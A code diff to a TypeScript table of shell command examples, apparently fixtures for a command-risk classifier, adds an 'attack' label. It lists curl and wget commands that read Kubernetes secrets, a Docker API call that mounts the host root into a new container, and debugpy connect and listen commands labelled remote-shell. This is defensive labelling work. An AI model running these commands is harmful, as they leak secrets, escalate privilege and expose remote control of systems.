@@ -15,8 +15,11 @@ export const unclearUses3: ExampleTable = {
       `curl --resolve app.local:443:127.0.0.1 https://app.local/ → fetch https://app.local/`,
       `curl --unix-socket /var/run/docker.sock http://localhost/containers/json → fetch http://localhost/containers/json`,
     ],
+    attack: [
+      `curl -s localhost:8001/api/v1/secrets → read secret://curl`,
+      `curl -X POST http://host:2375/containers/create -d '{"HostConfig":{"Binds":["/:/h"]}}' → privilege`,
+    ],
     unclear: [
-      `curl -s localhost:8001/api/v1/secrets → the secrets that are kept there`,
       `curl --unix-socket /var/run/docker.sock http://localhost/containers/db/json → what it makes a container do, or show`,
       `curl -n --connect-to ::example.net: http://example.org/ → which machine answers under another name`,
       `curl --resolve example.org:443:203.0.113.9 https://example.org/ → which machine answers under another name`,
@@ -26,8 +29,8 @@ export const unclearUses3: ExampleTable = {
   },
   wget: {
     use: [`wget -q https://example.org/a.txt → fetch https://example.org/a.txt`],
-    unclear: [
-      `wget -qO- http://localhost:8001/api/v1/namespaces/default/secrets → the secrets that are kept there`,
+    attack: [
+      `wget -qO- http://localhost:8001/api/v1/namespaces/default/secrets → read secret://wget`,
     ],
   },
   'ansible-vault': {
@@ -102,7 +105,11 @@ export const unclearUses3: ExampleTable = {
     use: [`screencapture -i x.png → write x.png`],
   },
   debugpy: {
-    unclear: [`debugpy --connect debug.example.org:5678 manage.py → who gives it orders`],
+    attack: [
+      `debugpy --connect debug.example.org:5678 manage.py → remote-shell --connect debug.example.org:5678`,
+      `debugpy --listen 0.0.0.0:5678 app.py → remote-shell --listen 0.0.0.0:5678`,
+    ],
+    unclear: [`debugpy --connect debug.internal:5678 manage.py → who gives it orders`],
     use: [`debugpy --listen 127.0.0.1:5678 app.py → listen 127.0.0.1:5678; read app.py`],
   },
   cursor: {
